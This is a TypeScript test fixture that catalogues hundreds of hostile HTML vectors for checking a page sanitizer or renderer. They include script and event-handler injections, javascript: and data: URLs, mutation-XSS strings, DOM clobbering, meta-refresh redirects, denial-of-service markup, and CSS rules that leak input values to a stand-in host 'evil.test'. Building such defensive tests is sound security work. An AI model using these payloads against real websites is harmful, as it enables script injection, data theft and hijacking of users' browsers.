/**
 * Pages that attack whoever rebuilds them. EVIL is an address of another host, RUN a script that tells on
 * itself; both name their vector, so that what got through can be told. OWN is an address on the viewer's
 * own origin that is no asset.
 */
const vectors: Record<string, string> = {};

function add(kind: string, list: string[]): void {
  list.forEach((html, at) => (vectors[`${kind}-${at}`] = html));
}

/** Scripts, and what runs as one. */
add('script', [
  '<script>RUN</script>',
  '<script src="EVIL"></script>',
  '<script type="module">RUN</script>',
  '<script type="module" src="EVIL"></script>',
  '<script type="importmap">{"imports":{"a":"EVIL"}}</script><script type="module">import "a"</script>',
  '<script type="speculationrules">{"prefetch":[{"urls":["EVIL"]}],"prerender":[{"urls":["EVIL"]}]}</script>',
  '<script nomodule src="EVIL"></script>',
  '<script async defer src="data:text/javascript,RUN"></script>',
  '<script src="//evil.test/x" integrity="sha256-x" crossorigin></script>',
  '<svg><script>RUN</script></svg>',
  '<svg><script href="EVIL"/></svg>',
  '<svg><script xlink:href="data:text/javascript,RUN"/></svg>',
  '<svg><script type="text/ecmascript"><![CDATA[RUN]]></script></svg>',
  '<math><script>RUN</script></math>',
  '<noscript><img src=x onerror="RUN"></noscript>',
  '<template><script>RUN</script><img src="EVIL" onerror="RUN"></template>',
  '<scr\0ipt>RUN</scr\0ipt><script\n>RUN</script\n>',
  '<SCRIPT>RUN</SCRIPT><ScRiPt src=EVIL></sCrIpT>',
  '<style onload="RUN">p{}</style>',
  '<link rel=stylesheet href="data:text/css,p{}" onload="RUN">',
  '<object data="data:text/html,<script>RUN</script>"></object>',
  '<embed src="data:text/html,<script>RUN</script>">',
  '<iframe src="javascript:RUN"></iframe>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe srcdoc="<img src=x onerror=RUN>"></iframe>',
  '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
  '<frameset onload="RUN"><frame src="javascript:RUN"></frameset>',
  '<fencedframe config="x"></fencedframe><portal src="EVIL"></portal>',
  '<x-evil onconnected="RUN"></x-evil><script>customElements.define("x-evil", class extends HTMLElement { connectedCallback() { RUN } })</script>',
  '<button is="x-evil" onclick="RUN">x</button>',
  '<div><template shadowrootmode="open"><script>RUN</script><img src="EVIL" onerror="RUN"><slot></slot></template></div>',
  '<div><template shadowrootmode="open" shadowrootserializable><iframe srcdoc="<script>RUN</script>"></iframe></template></div>',
  '<div><template shadowrootmode="closed"><img src="EVIL" onerror="RUN"></template></div>',
  '<div><template shadowrootmode="open"><style>@import "EVIL"; :host{background:url(EVIL)}</style></template></div>',
]);

/** Handlers of events that come by themselves, and of those that need a hand. */
const byThemselves: [string, string][] = [
  ['img src=x', 'error'],
  ['img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="', 'load'],
  ['image src=x', 'error'],
  ['video src=x', 'error'],
  ['audio src=x', 'error'],
  ['video autoplay muted src="data:video/mp4,x"', 'loadstart'],
  ['input autofocus', 'focus'],
  ['textarea autofocus', 'focusin'],
  ['select autofocus', 'focus'],
  ['button autofocus', 'focus'],
  ['a href="#" autofocus', 'focus'],
  ['div tabindex=1 autofocus', 'focus'],
  ['div contenteditable autofocus', 'focus'],
  ['details open', 'toggle'],
  ['dialog open', 'beforetoggle'],
  ['marquee loop=1 width=0', 'finish'],
  ['marquee', 'start'],
  ['body', 'load'],
  ['body', 'pageshow'],
  ['body', 'resize'],
  ['body', 'hashchange'],
  ['body', 'message'],
  ['body', 'beforeunload'],
  ['frameset', 'load'],
  ['iframe', 'load'],
  ['object data=x', 'error'],
  ['embed src=x', 'load'],
  ['link rel=stylesheet href=x', 'error'],
  ['script src=x', 'error'],
  ['track kind=captions src=x default', 'error'],
  ['source src=x', 'error'],
  ['input type=image src=x', 'error'],
  ['svg', 'load'],
  ['div style="animation: 1ms spin"', 'animationstart'],
  ['div style="transition: 1ms all"', 'transitionrun'],
  ['div style="content-visibility: auto"', 'contentvisibilityautostatechange'],
  ['div popover', 'beforetoggle'],
  ['form', 'formdata'],
  ['p', 'click'],
  ['p', 'pointerover'],
  ['p', 'mouseover'],
  ['p', 'wheel'],
  ['p', 'selectstart'],
  ['p', 'scrollsnapchange'],
  ['p draggable=true', 'dragstart'],
  ['input', 'beforeinput'],
  ['slot', 'slotchange'],
  ['button command=show-modal commandfor=x', 'command'],
];
add(
  'handler',
  byThemselves.map(([start, event]) => `<${start} on${event}="RUN"></${start.split(' ')[0]}>`),
);
add('handler-spelling', [
  '<img src=x ONERROR="RUN">',
  '<img src=x OnErRoR=RUN>',
  '<img src=x/onerror="RUN">',
  '<img\nsrc=x\nonerror\n=\n"RUN">',
  '<img/src=x/onerror=RUN>',
  '<img """><script>RUN</script>">',
  '<svg/onload=RUN>',
  '<svg><animate onbegin="RUN" attributeName=x dur=1s></svg>',
  '<svg><set onend="RUN" attributeName=x to=0 dur=1ms></svg>',
  '<svg><image href=x onerror="RUN"/></svg>',
  '<svg><foreignObject><img src=x onerror="RUN"></foreignObject></svg>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<svg><discard onbegin="RUN"/></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:RUN" href="javascript:RUN">x</maction></math>',
  '<math href="javascript:RUN">x</math>',
]);

/** Addresses that lead away, run, or ask. */
const addresses = [
  'EVIL',
  '//evil.test/NAME',
  '\\\\evil.test\\NAME',
  'javascript:RUN',
  ' java\nscript:RUN',
  '\u0001javascript:RUN',
  'JAVASCRIPT:RUN',
  'javascript&colon;RUN',
  'vbscript:RUN',
  'data:text/html,<script>RUN</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><image href="EVIL"/></svg>',
  'blob:https://evil.test/NAME',
  'OWN',
];
add(
  'address',
  addresses.flatMap((address) => {
    const a = address
      .replaceAll('&', '&amp;')
      .replaceAll('"', '&quot;')
      .replace('&amp;colon;', '&colon;');
    return [
      `<a href="${a}" target="_top" ping="${a}" attributionsrc="${a}">x</a><area href="${a}"><form action="${a}"><button formaction="${a}">x</button></form>`,
      `<img src="${a}"><img srcset="${a} 1x"><picture><source srcset="${a}"><img></picture><input type=image src="${a}">`,
      `<iframe src="${a}"></iframe><frame src="${a}"><object data="${a}"></object><embed src="${a}">`,
      `<video src="${a}" poster="${a}" autoplay></video><audio src="${a}" autoplay></audio><video autoplay><source src="${a}"><track src="${a}" default></video>`,
      `<link rel="stylesheet preload prefetch modulepreload icon dns-prefetch preconnect manifest" as="image" href="${a}"><link rel=preload as=font imagesrcset="${a}" href="${a}">`,
      `<svg><use href="${a}#x"/><image href="${a}"/><feImage href="${a}"/><pattern href="${a}#p"/><textPath href="${a}#t"/><mpath href="${a}#m"/></svg>`,
      `<body background="${a}"><table background="${a}"><tr><td background="${a}">x</table>`,
    ];
  }),
);

/** What takes the agent, or their page, elsewhere. */
add('away', [
  '<meta http-equiv="refresh" content="0;url=EVIL">',
  '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
  '<meta http-equiv="refresh" content="0">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * \'unsafe-inline\'">',
  '<meta http-equiv="set-cookie" content="a=b"><meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="//NAME.evil.test">',
  '<meta name="referrer" content="unsafe-url"><img src="EVIL">',
  '<meta name="viewport" content="width=99999"><meta charset="utf-7">',
  '<meta http-equiv="origin-trial" content="x"><meta http-equiv="accept-ch" content="dpr">',
  '<base href="https://evil.test/"><img src="NAME"><a href="x">x</a>',
  '<base target="_top"><a href="EVIL">x</a>',
  '<a href="EVIL" target="_top" id="go">x</a><script>document.getElementById("go").click()</script>',
  '<form action="EVIL" target="_top"><input name=a autofocus><input type=submit></form><script>document.forms[0].submit()</script>',
  '<form id="f" action="EVIL"></form><input form="f" type="submit" formtarget="_blank" formaction="EVIL">',
  '<iframe name="EVIL"></iframe><script>window.name = "NAME"; top.name = "NAME"</script>',
  '<iframe src="about:blank" sandbox="allow-scripts allow-top-navigation allow-popups" allow="*"></iframe>',
  '<iframe srcdoc="<meta http-equiv=refresh content=0;url=EVIL>"></iframe>',
  '<iframe srcdoc="<base href=https://evil.test/><link rel=stylesheet href=NAME>"></iframe>',
  '<iframe srcdoc="<form action=EVIL target=_top><button autofocus>x</button></form>"></iframe>',
  '<iframe loading="eager" src="OWN"></iframe><iframe src="/"></iframe><iframe src="/live"></iframe>',
  '<object type="text/html" data="EVIL"><param name="movie" value="EVIL"><embed src="EVIL"></object>',
  '<applet code="EVIL" archive="EVIL" codebase="https://evil.test/"></applet>',
  '<bgsound src="EVIL"><layer src="EVIL"></layer><ilayer src="EVIL"></ilayer><xml src="EVIL"></xml>',
  '<isindex action="javascript:RUN" type=image src="EVIL"><keygen autofocus onfocus="RUN">',
  '<html manifest="EVIL"><head profile="EVIL">',
  '<link rel="search" type="application/opensearchdescription+xml" href="EVIL"><link rel="pingback" href="EVIL">',
  '<link rel="expect" blocking="render" href="#never"><link rel="compression-dictionary" href="EVIL">',
  '<a download="x" href="data:application/octet-stream,x" id="d">x</a><script>document.getElementById("d").click()</script>',
  '<script>history.pushState(0, "", "/NAME"); location.hash = "NAME"; top.location = "EVIL"; open("EVIL")</script>',
]);

/** Style sheets and attributes that ask, cover, or spy; `CSS` stands in a style element, and in an attribute. */
const rules = [
  '@import "EVIL"',
  '@import url(EVIL) layer(x) supports(display:block) screen',
  '@namespace x url(EVIL); p{}',
  '@font-face{font-family:NAME;src:url(EVIL)} *{font-family:NAME}',
  '@font-face{font-family:NAME;src:local(x),url("EVIL") format("woff2");unicode-range:U+61} *{font-family:NAME}',
  '*{background:url(EVIL)}',
  '*{background-image:image-set("EVIL" 1x,url(EVIL) 2x)}',
  '*{background:-webkit-image-set(url(EVIL) 1x)}',
  '*{background:cross-fade(url(EVIL),url(EVIL))}',
  '*{background:\\75 rl(EVIL)}',
  '*{background:u\\52L("EVIL")}',
  '*{--a:url(EVIL);background:var(--a)}',
  '*{--a:"EVIL";background:image-set(var(--a) 1x)}',
  '@property --b{syntax:"<url>";inherits:true;initial-value:url(EVIL)} *{background:var(--b)}',
  '*{list-style-image:url(EVIL);display:list-item}',
  '*{border-image-source:url(EVIL);border:3px solid}',
  '*{cursor:url(EVIL) 1 1,auto}',
  '*{content:url(EVIL)} *::before{content:url(EVIL)} *::after{content:"a" url(EVIL)}',
  '*{mask-image:url(EVIL);-webkit-mask:url(EVIL)}',
  '*{filter:url(EVIL#f);backdrop-filter:url(EVIL#f);clip-path:url(EVIL#c)}',
  '*{shape-outside:url(EVIL);float:left;offset-path:url(EVIL#p)}',
  'rect{fill:url(EVIL#g);stroke:url(EVIL#g);marker-start:url(EVIL#m)}',
  'input[value^="a"]{background:url(EVIL)} input[value$="e"]{background:url(EVIL)}',
  'a:visited{background:url(EVIL)} :target{background:url(EVIL)} :focus{background:url(EVIL)} :hover{background:url(EVIL)}',
  ':has(input[value*="s"]){background:url(EVIL)}',
  '@media (min-width:1px){*{background:url(EVIL)}}',
  '@supports (display:grid){@layer a{@container (width>0){*{background:url(EVIL)}}}}',
  '@keyframes k{from{background:url(EVIL)}to{background:url(EVIL)}} *{animation:k 1ms infinite}',
  '@page{background:url(EVIL)} @counter-style c{system:cyclic;symbols:url(EVIL)} *{list-style:c}',
  '*{behavior:url(EVIL);-moz-binding:url(EVIL);width:expression(RUN)}',
  '*{background:url(EVIL',
  '*{background:url("EVIL',
  '</style><img src=x onerror="RUN"><style>',
  '<!-- *{background:url(EVIL)} -->',
  '*{color:"\n;background:url(EVIL)}',
  '*{a:"\\";background:url(EVIL)}',
  'html{position:fixed;inset:0;z-index:2147483647;pointer-events:all} *{all:initial;background:url(EVIL)}',
  'dialog::backdrop{background:url(EVIL)} ::selection{background:url(EVIL)} ::view-transition{background:url(EVIL)}',
  '*{background:attr(title type(<url>))}',
  '*{background:element(#x),paint(x),src("EVIL")}',
  '@function --f(){result:url(EVIL)} *{background:--f()}',
  '@view-transition{navigation:auto} @starting-style{*{background:url(EVIL)}} *{background:url(EVIL)}',
  '*{anchor-name:--a;position-anchor:--a;animation-timeline:view()} @position-try --t{background:url(EVIL)}',
  '@document url(EVIL){*{background:url(EVIL)}} @-moz-document url-prefix(){*{background:url(EVIL)}}',
];
add(
  'css',
  rules.map((rule) => `<style>${rule}</style><p title="EVIL">x<input value="alice">`),
);
add(
  'css-attribute',
  rules
    .filter((rule) => rule.startsWith('*{') && rule.endsWith('}'))
    .map((rule) => `<p style="${rule.slice(2, -1).replaceAll('"', '&quot;')}">x</p>`),
);

/** Drawings. */
add('svg', [
  '<svg><use href="EVIL#x"/></svg>',
  '<svg><use xlink:href="data:image/svg+xml,<svg id=x onload=RUN xmlns=http://www.w3.org/2000/svg/>#x"/></svg>',
  '<svg><image href="EVIL" xlink:href="EVIL"/></svg>',
  '<svg><animate attributeName="href" values="EVIL" dur="1s"/></svg>',
  '<svg><a id=a><animate xlink:href="#a" attributeName="href" values="javascript:RUN" dur="1s"/><text>x</text></a></svg>',
  '<svg><image><set attributeName="href" to="EVIL" begin="0s"/></image></svg>',
  '<svg><image><set attributeName="xlink:href" to="EVIL"/></image></svg>',
  '<svg><rect><animate attributeName="fill" values="url(EVIL);url(EVIL)" dur="1s"/></rect></svg>',
  '<svg><rect><set attributeName="onclick" to="RUN"/><set attributeName="style" to="background:url(EVIL)"/></rect></svg>',
  '<svg><rect><set attributeName="class" to="x"/><animateTransform onbegin="RUN" attributeName="transform" dur="1s"/></rect></svg>',
  '<svg><rect fill="url(EVIL#g)" stroke="url(EVIL#g)" filter="url(EVIL#f)" mask="url(EVIL#m)" clip-path="url(EVIL#c)" cursor="url(EVIL)"/></svg>',
  '<svg><filter id=f><feImage href="EVIL"/><feImage xlink:href="OWN"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
  '<svg><style>@import "EVIL"; rect{fill:url(EVIL)}</style><rect/></svg>',
  '<svg><style><![CDATA[</style><img src=x onerror=RUN>]]></style></svg>',
  '<svg><foreignObject><iframe src="EVIL"></iframe><video poster="EVIL"></video></foreignObject></svg>',
  '<svg><foreignObject><meta http-equiv="refresh" content="0;url=EVIL"></foreignObject></svg>',
  '<svg><handler type="text/javascript" ev:event="load">RUN</handler><listener event="load" handler="EVIL"/></svg>',
  '<svg><cursor href="EVIL"/><font-face-uri href="EVIL"/><color-profile href="EVIL"/><altGlyph href="EVIL"/></svg>',
  '<svg><linearGradient href="EVIL#g"/><radialGradient xlink:href="EVIL#g"/><pattern href="EVIL"/></svg>',
  '<svg><textPath href="EVIL#t">x</textPath><tref xlink:href="EVIL#t"/><mpath href="EVIL#m"/></svg>',
  '<svg xmlns:x="EVIL" x:href="EVIL" xml:base="https://evil.test/"><image href="NAME"/></svg>',
  '<svg><desc><script>RUN</script></desc><title><img src=x onerror=RUN></title><metadata><img src="EVIL"></metadata></svg>',
  '<svg width=99999999 height=99999999 viewBox="0 0 1e300 1e300"><rect width=1e300 height=1e300 /></svg>',
  '<svg><switch><g requiredExtensions="EVIL"/><g systemLanguage="en"><image href="EVIL"/></g></switch></svg>',
  '<math><mglyph src="EVIL"/><mi href="EVIL" xlink:href="javascript:RUN">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><img src="EVIL" onerror="RUN"></annotation-xml></math>',
  '<math><semantics><annotation-xml encoding="application/xhtml+xml"><iframe src="EVIL"></iframe></annotation-xml></semantics></math>',
  '<math definitionurl="EVIL" style="background:url(EVIL)"><mtext><img src="EVIL"></mtext></math>',
]);

/** Texts that become something else when they are parsed again. */
add('mutation', [
  '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN></style></mglyph></form>',
  '<svg><desc><svg><image></image><a></a></desc><image><a><desc><svg><image></image></svg></desc></a></image></svg>',
  '<xmp><img src="</xmp><img src=x onerror=RUN>"></xmp>',
  '<listing>&lt;img src=x onerror=RUN&gt;</listing><plaintext><img src=x onerror=RUN>',
  '<textarea></textarea><img src=x onerror=RUN></textarea>',
  '<title></title><img src=x onerror=RUN></title>',
  '<iframe></iframe><img src=x onerror=RUN></iframe>',
  '<noembed><img src="</noembed><img src=x onerror=RUN>"></noembed>',
  '<template><template><img src=x onerror=RUN></template></template>',
  '<select><option><style></option></select><img src=x onerror=RUN></style></select>',
  '<table><a title="</table><img src=x onerror=RUN>"><tr></table>',
  '<p id="&quot;><img src=x onerror=RUN>">x</p>',
  '<p class="`><img src=x onerror=RUN>" title="--!><img src=x onerror=RUN>">x</p>',
  '<!--><img src=x onerror=RUN>--><!-- --!><img src=x onerror=RUN> -->',
  '<?xml-stylesheet href="EVIL"?><!DOCTYPE x [<!ENTITY e SYSTEM "EVIL">]><p>&e;</p>',
  '<svg><![CDATA[><img src=x onerror=RUN>]]></svg>',
  '<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror=RUN>"></style></annotation-xml></math>',
]);

/** Names that shadow what a script of the console might use. */
add('clobber', [
  '<form name="setAttribute"><input name="attributes"><input name="parentNode"><input name="insertBefore"></form>',
  '<form id="f"><input name="removeChild"><input id="firstChild"><input name="ownerDocument"></form>',
  '<form><input name="nodeType"><input name="nodeName"><input name="localName"><input name="shadowRoot"></form>',
  '<form><input name="style"><input name="getAttribute"><input name="removeAttribute"><input name="children"></form>',
  '<img name="defaultView"><img name="documentElement"><img name="body"><img name="open"><img name="write">',
  '<form name="styleSheets"></form><form name="adoptedStyleSheets"></form><form name="createElementNS"></form>',
  '<embed name="createTextNode"><object id="getElementById"></object><iframe name="querySelector"></iframe>',
  '<iframe name="top"></iframe><iframe name="parent"></iframe><iframe name="self"></iframe><iframe name="frameElement"></iframe>',
  '<a id="harness"></a><a id="harness" name="apply"></a><a id="ran" name="push"></a>',
  '<p id="__proto__" class="constructor" title="toString">x</p><x-y __proto__="x" constructor="x"></x-y>',
  '<form id="mine"><input id="mine" name="focus"></form>',
  '<a id="customElements"></a><a id="CSS"></a><a id="Node"></a><a id="Document"></a><a id="location" href="EVIL"></a>',
]);

/** What steals focus, covers, floods or plays. */
add('nuisance', [
  '<input autofocus><textarea autofocus></textarea><button autofocus>x</button><a href="#" autofocus>x</a>',
  '<dialog open autofocus><input autofocus></dialog><div popover="auto" id="p"><input autofocus></div>',
  '<div popover="manual" style="position:fixed;inset:0;width:100vw;height:100vh" id="pop">x</div><button popovertarget="pop" popovertargetaction="show">x</button>',
  '<div tabindex="2147483647" accesskey="a" contenteditable inputmode="none" enterkeyhint="go">x</div>',
  '<video autoplay loop controls muted playsinline src="EVIL"></video><audio autoplay controls src="EVIL"></audio>',
  '<marquee scrollamount="9999" truespeed>x</marquee><blink>x</blink>',
  '<input type="file" webkitdirectory capture autofocus><input type="color" autofocus><input type="date" autofocus>',
  '<button command="show-modal" commandfor="dd">x</button><dialog id="dd" closedby="none">x</dialog>',
  '<button interestfor="ii">x</button><div popover="hint" id="ii">x</div>',
  '<div style="position:fixed;top:-9999px;left:-9999px;width:99999px;height:99999px;z-index:2147483647;background:red">x</div>',
  '<div style="width:1e9px;height:1e9px;transform:scale(1e9);filter:blur(9999px)">x</div>',
  '<style>*{animation:a 1ms infinite} @keyframes a{to{transform:rotate(1turn)}}</style>',
  '<input pattern="(a+)+$" value="aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!">',
  '<table><tr><td colspan="1000000" rowspan="1000000">x</table><ol start="2147483647"><li value="-2147483648">x</ol>',
  '<textarea rows="1000000" cols="1000000">x</textarea><select size="1000000"><option>x</select>',
  '<meter value="NaN" min="1e308" max="-1e308"></meter><progress value="1e400"></progress>',
  '<img width="2147483647" height="2147483647" src="x"><canvas width="65535" height="65535"></canvas>',
  '<bdo dir="rtl">\u202e\u2066</bdo><p>\u0000\uffff\u{1f4a9}\u0301\u0301\u0301</p>',
  '<p lang="x-&quot;" dir="auto" translate="yes" spellcheck="true" nonce="x" slot="x" part="x y" exportparts="a:b">x</p>',
  '<script>setInterval(() => { RUN })</script><script>addEventListener("message", () => { RUN })</script>',
]);

export const evilHost = 'evil.test';

/** Every vector with its name and with what it would tell on itself by. */
export const hostile: [name: string, html: string][] = Object.entries(vectors).map(
  ([name, html]) => [
    name,
    html
      .replaceAll('EVIL', `https://${evilHost}/${name}`)
      .replaceAll('OWN', `/live?${name}`)
      .replaceAll('RUN', `(window.top.ran||[]).push('${name}')`)
      .replaceAll('NAME', name),
  ],
);
